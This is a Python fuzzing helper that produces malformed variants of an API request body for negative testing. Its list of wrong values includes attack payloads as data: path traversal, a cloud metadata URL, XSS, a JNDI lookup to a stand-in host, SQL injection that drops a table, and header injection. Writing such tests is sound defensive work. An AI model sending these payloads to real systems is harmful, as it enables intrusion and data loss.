"""A valid body with one thing wrong in it: every key, every value of the wrong kind."""

import copy
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any

WRONG: list[Any] = [
    None,
    True,
    0,
    -1,
    2**62,
    0.5,
    "",
    " \t\n",
    "\x00\x1b[2J",
    "\ud800",
    "\u202eevil\u2066",
    "\U000e0041\U000e0042",
    "a\u0300" * 200,
    "x" * 5000,
    "٣",
    "../../../etc/passwd",
    "http://169.254.169.254/latest",
    "<script>alert(1)</script>",
    "${jndi:ldap://x.example/a}",
    "'; DROP TABLE items; --",
    "\r\nX-Injected: 1",
    "2026-99-99T99:99:99Z",
    "99999999999999999999",
    [],
    [None],
    [[[[]]]],
    ["x", 1, {}],
    {},
    {"id": {}},
    {"": ""},
    {"__proto__": {"id": 1}},
    {"id": ["x"], "type": 1, "name": None},
]

Path = tuple[Any, ...]


def paths(value: Any, here: Path = ()) -> Iterator[Path]:
    """Every place in it, the whole first."""
    yield here
    if isinstance(value, dict):
        for key, inner in value.items():
            yield from paths(inner, (*here, key))
    elif isinstance(value, list):
        for position, inner in enumerate(value):
            yield from paths(inner, (*here, position))


def mutations(body: Any) -> Iterator[Callable[[], Any]]:
    """What makes the body with one place replaced by a wrong value, removed, tripled, renamed."""
    yield from (partial(copy.deepcopy, wrong) for wrong in WRONG)
    for path in paths(body):
        if path:
            for wrong in WRONG:
                yield partial(_replaced, body, path, wrong)
            for change in (_removed, _tripled, _renamed):
                yield partial(change, body, path)


def some(bodies: list[Any], count: int) -> list[Any]:
    """At least `count` mutations of all the bodies, evenly spread and always the same."""
    everything = [make for body in bodies for make in mutations(body)]
    assert len(everything) >= count
    return [make() for make in everything[:: len(everything) // count]]


def _replaced(body: Any, path: Path, wrong: Any) -> Any:
    changed, holder = _holder(body, path)
    holder[path[-1]] = wrong
    return changed


def _removed(body: Any, path: Path) -> Any:
    changed, holder = _holder(body, path)
    del holder[path[-1]]
    return changed


def _tripled(body: Any, path: Path) -> Any:
    changed, holder = _holder(body, path)
    holder[path[-1]] = [holder[path[-1]]] * 3
    return changed


def _renamed(body: Any, path: Path) -> Any:
    """A key with a blank behind it; in a list, the same thing once more."""
    changed, holder = _holder(body, path)
    if isinstance(holder, dict):
        holder[f"{path[-1]} "] = holder.pop(path[-1])
    else:
        holder.append(holder[path[-1]])
    return changed


def _holder(body: Any, path: Path) -> tuple[Any, Any]:
    """A copy of the body, and what holds the place in it."""
    changed = copy.deepcopy(body)
    holder = changed
    for key in path[:-1]:
        holder = holder[key]
    return changed, holder
